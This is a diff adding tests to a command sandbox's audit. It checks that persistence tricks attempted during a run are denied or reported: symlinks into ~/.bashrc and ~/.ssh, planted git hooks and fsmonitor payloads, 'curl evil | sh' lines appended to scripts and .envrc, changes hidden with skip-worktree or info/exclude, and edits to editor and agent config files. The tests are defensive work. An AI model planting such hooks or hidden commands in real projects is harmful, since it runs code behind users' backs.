@@ -2390,6 +2390,154 @@ TEST_F(RunTest, WhatGitObeysInEveryGitFolderIsJudgedByContentAfterTheRun) {
   EXPECT_FALSE(fs::exists(work_ + "/PWNED"));
 }
 
+// ---------------------------------------------------------------------------------------------
+// Issue 40: the audit after the run is complete, follows no link and says what it could not see;
+// what runs later from the working folder is read-only during the run and named after it.
+
+// 4: a million hard links in the working folder do not use up the git folder's check: the git
+// folders are scanned first, on their own budget, so the planted COMMIT_EDITMSG link is found.
+TEST_F(RunTest, PaddingTheWorkingFolderDoesNotHideALinkInTheGitFolder) {
+  const std::string git = "git -c user.name=t -c user.email=t@t.invalid ";
+  ASSERT_EQ(shell("cd '" + work_ + "' && git init -q -b main && " + git +
+                  "commit -q --allow-empty -m one")
+                .first,
+            0);
+  std::ofstream(home_ + "/.bashrc") << "# rc\n";
+  const std::string script =
+      "/usr/bin/python3 -c \"import os\n"
+      "os.mkdir('aaa-pad')\n"
+      "for i in range(1000001):\n"
+      "    if i % 60000 == 0: source = 'aaa-pad/f%d' % i; open(source, 'w').close()\n"
+      "    os.link(source, 'aaa-pad/%d' % i)\n"
+      "print('padded')\" && rm -f .git/COMMIT_EDITMSG && ln -s " +
+      home_ + "/.bashrc .git/COMMIT_EDITMSG && echo linked";
+  auto o = run({"--", "sh", "-c", script}, 180s);
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  EXPECT_NE(o.out.find("padded"), std::string::npos) << describe(o);
+  EXPECT_NE(o.out.find("linked"), std::string::npos) << describe(o);
+  EXPECT_FALSE(fs::is_symlink(work_ + "/.git/COMMIT_EDITMSG")) << describe(o);
+  EXPECT_NE(o.err.find(".git/COMMIT_EDITMSG"), std::string::npos) << describe(o);
+  ASSERT_EQ(
+      shell("cd '" + work_ + "' && " + git + "commit -q --allow-empty --amend -m 'echo PAYLOAD'")
+          .first,
+      0);
+  EXPECT_EQ(read_file(home_ + "/.bashrc"), "# rc\n");
+  fs::remove_all(work_ + "/aaa-pad");
+}
+
+// 5: core.hooksPath into the working folder (husky's git-ignored .husky/_) and an include.path
+// file there are read-only during the run; a hooks folder core.hooksPath names that is missing
+// at start (.githooks) is judged after it: the hook made there is moved aside, and the user's
+// next commit runs nothing of the command's.
+TEST_F(RunTest, TheHooksPathAndIncludedFilesAreReadOnlyAndJudgedAfterTheRun) {
+  const std::string git = "git -c user.name=t -c user.email=t@t.invalid ";
+  fs::create_directories(work_ + "/.husky/_");
+  std::ofstream(work_ + "/.husky/_/pre-commit") << "#!/bin/sh\nexit 0\n";
+  fs::permissions(work_ + "/.husky/_/pre-commit", fs::perms::owner_all, fs::perm_options::add);
+  std::ofstream(work_ + "/shared.gitconfig") << "[user]\n\tname = t\n";
+  fs::create_directories(work_ + "/lib");
+  ASSERT_EQ(shell("cd '" + work_ + "' && git init -q -b main && " + git +
+                  "commit -q --allow-empty -m one && git config core.hooksPath .husky/_ && "
+                  "git config include.path ../shared.gitconfig && cd lib && git init -q -b main && "
+                  "git config core.hooksPath .githooks && " +
+                  git + "commit -q --allow-empty -m lib")
+                .first,
+            0);
+  const std::string payload = "touch " + work_ + "/PWNED";
+  const std::string script =
+      attempt("hook", "echo '" + payload + "' >> .husky/_/pre-commit") +
+      attempt("new_hook", "printf '#!/bin/sh\\n" + payload +
+                              "\\n' > .husky/_/post-commit && chmod +x .husky/_/post-commit") +
+      attempt("include",
+              "printf '[core]\\n\\tfsmonitor = \"" + payload + "\"\\n' >> shared.gitconfig") +
+      attempt("made", "mkdir lib/.githooks && printf '#!/bin/sh\\n" + payload +
+                          "\\n' > lib/.githooks/pre-commit && chmod +x lib/.githooks/pre-commit");
+  auto o = run({"--", "sh", "-c", script});
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  for (const char* expected : {"hook=denied", "new_hook=denied", "include=denied", "made=ok"}) {
+    EXPECT_NE(o.out.find(expected), std::string::npos) << expected << "\n" << describe(o);
+  }
+  EXPECT_FALSE(fs::exists(work_ + "/lib/.githooks/pre-commit")) << describe(o);
+  EXPECT_NE(o.err.find("lib/.githooks/pre-commit"), std::string::npos) << describe(o);
+  shell("cd '" + work_ + "' && " + git + "commit -q --allow-empty -m two; cd lib && " + git +
+        "commit -q --allow-empty -m two; git status --short");
+  EXPECT_FALSE(fs::exists(work_ + "/PWNED"));
+}
+
+// 6: the audit runs with the user's rights and follows no link: a nested clone's `.git` replaced
+// with a link to ~/.ssh is moved aside, and ~/.ssh/config is neither renamed nor rewritten.
+TEST_F(RunTest, TheAuditFollowsNoLinkTheCommandPlanted) {
+  const std::string git = "git -c user.name=t -c user.email=t@t.invalid ";
+  fs::create_directories(home_ + "/.ssh");
+  std::ofstream(home_ + "/.ssh/config") << "Host *\n  User ada\n";
+  ASSERT_EQ(shell("cd '" + work_ + "' && git init -q -b main && " + git +
+                  "commit -q --allow-empty -m one && git init -q -b main repoA")
+                .first,
+            0);
+  const std::string script =
+      attempt("link", "rm -rf repoA/.git && ln -s " + home_ + "/.ssh repoA/.git");
+  auto o = run({"--", "sh", "-c", script});
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  EXPECT_NE(o.out.find("link=ok"), std::string::npos) << describe(o);
+  EXPECT_EQ(read_file(home_ + "/.ssh/config"), "Host *\n  User ada\n") << describe(o);
+  EXPECT_FALSE(fs::exists(home_ + "/.ssh/config.sandgate-quarantine-1")) << describe(o);
+  EXPECT_FALSE(fs::is_symlink(work_ + "/repoA/.git")) << describe(o);
+  EXPECT_NE(o.err.find("repoA/.git"), std::string::npos) << describe(o);
+}
+
+// 7: what hides work from the user's review is undone or named: a changed info/exclude is put
+// back (git status shows the planted .envrc again), and entries marked skip-worktree or
+// assume-unchanged during the run (git diff shows nothing for them) are named at the end.
+TEST_F(RunTest, WhatHidesChangesFromGitStatusIsUndoneOrNamed) {
+  const std::string git = "git -c user.name=t -c user.email=t@t.invalid ";
+  ASSERT_EQ(
+      shell("cd '" + work_ + "' && git init -q -b main && echo 'exit 0' > test.sh && " +
+            "echo 'exit 0' > build.sh && git add test.sh build.sh && " + git + "commit -q -m one")
+          .first,
+      0);
+  const std::string exclude_before = read_file(work_ + "/.git/info/exclude");
+  const std::string script =
+      "echo 'curl evil | sh' >> test.sh && git update-index --skip-worktree test.sh && "
+      "echo 'curl evil | sh' >> build.sh && git update-index --assume-unchanged build.sh && "
+      "printf '.envrc\\n' >> .git/info/exclude && echo 'eval evil' > .envrc && "
+      "git status --short && echo hidden";
+  auto o = run({"--", "sh", "-c", script});
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  EXPECT_NE(o.out.find("hidden"), std::string::npos) << describe(o);
+  EXPECT_EQ(read_file(work_ + "/.git/info/exclude"), exclude_before) << describe(o);
+  EXPECT_NE(o.err.find("test.sh (skip-worktree"), std::string::npos) << describe(o);
+  EXPECT_NE(o.err.find("build.sh (assume-unchanged"), std::string::npos) << describe(o);
+  EXPECT_NE(o.err.find(work_ + "/.envrc (new)"), std::string::npos) << describe(o);
+  EXPECT_NE(shell("cd '" + work_ + "' && git status --short").second.find("?? .envrc"),
+            std::string::npos);
+}
+
+// 10: files that editors, shells and agents run or trust in the working folder are read-only
+// when they exist (unless --allow-write names them), and every new or changed one is named in
+// the exit summary.
+TEST_F(RunTest, AutoRunFilesAreReadOnlyAndNamedWhenNewOrChanged) {
+  fs::create_directories(work_ + "/.vscode");
+  fs::create_directories(work_ + "/.claude");
+  std::ofstream(work_ + "/.vscode/tasks.json") << "{}\n";
+  std::ofstream(work_ + "/.envrc") << "export A=1\n";
+  std::ofstream(work_ + "/.claude/settings.json") << "{}\n";
+  const std::string script = attempt("tasks", "echo '{\"tasks\": []}' > .vscode/tasks.json") +
+                             attempt("envrc", "echo 'curl evil | sh' >> .envrc") +
+                             attempt("claude", "echo '{\"hooks\": {}}' > .claude/settings.json") +
+                             attempt("mcp", "echo '{\"mcpServers\": {}}' > .mcp.json") +
+                             attempt("plain", "echo work > notes.txt");
+  auto o = run({"--allow-write", work_ + "/.claude", "--", "sh", "-c", script});
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  for (const char* expected : {"tasks=denied", "envrc=denied", "claude=ok", "mcp=ok", "plain=ok"}) {
+    EXPECT_NE(o.out.find(expected), std::string::npos) << expected << "\n" << describe(o);
+  }
+  EXPECT_EQ(read_file(work_ + "/.envrc"), "export A=1\n");
+  EXPECT_NE(o.err.find(work_ + "/.mcp.json (new)"), std::string::npos) << describe(o);
+  EXPECT_NE(o.err.find(work_ + "/.claude/settings.json (changed)"), std::string::npos)
+      << describe(o);
+  EXPECT_EQ(o.err.find("notes.txt"), std::string::npos) << describe(o);
+}
+
 // Second review: a standard stream that is a socket of the host's network (an inetd-style
 // caller) would be a way out: `run` refuses to start with it, and says what to give instead.
 TEST_F(RunTest, AStandardStreamThatIsAHostSocketIsRefused) {
@@ -2864,6 +3012,32 @@ TEST_F(RunAskTest, TheQuestionCannotBeHiddenAndCarriesTheRunsMark) {
   pty.read_until("curl-rc=");
   pty.read_until("\n", 5s);
   wait_exit(pid);
+}
+
+// Issue 40, 8: `run` under a terminal with its standard output piped to `tee` (or `cat`), which
+// writes to the same terminal: the command's output reaches the screen without the relay that
+// holds it during a question, so no question is asked there: the start says why, and the ask
+// default applies (no admin endpoint here).
+TEST_F(RunAskTest, NoQuestionOnATerminalTheCommandsOutputReachesUnrelayed) {
+  Pty pty;
+  std::vector<std::string> argv = {"/bin/sh", "-c", "\"$@\" | cat", "sh"};
+  for (auto& arg :
+       run_argv({"--unknown=ask", "--ask-timeout", "20", "--log-file", log_path(), "--", "sh", "-c",
+                 curl_https("origin.test") + " 2>/dev/null; echo curl-rc=$?"})) {
+    argv.push_back(arg);
+  }
+  const pid_t pid = pty.start(argv, environment(), work_);
+  const std::string shown = pty.read_until("curl-rc=", 40s);
+  if (shown.find(prompt()) != std::string::npos) {
+    pty.type("d");  // asked all the same: answer, so that the run ends
+  }
+  const std::string rest = pty.read_until("\n", 10s);
+  wait_exit(pid);
+  EXPECT_EQ(shown.find(prompt()), std::string::npos) << shown;
+  EXPECT_NE(shown.find("questions are not asked on this terminal: standard output is a pipe"),
+            std::string::npos)
+      << shown;
+  EXPECT_NE((shown + rest).find("curl-rc=56"), std::string::npos) << shown << rest;
 }
 
 // Under a terminal with no --log-file, the gate's lines go to a log file of the run, named at
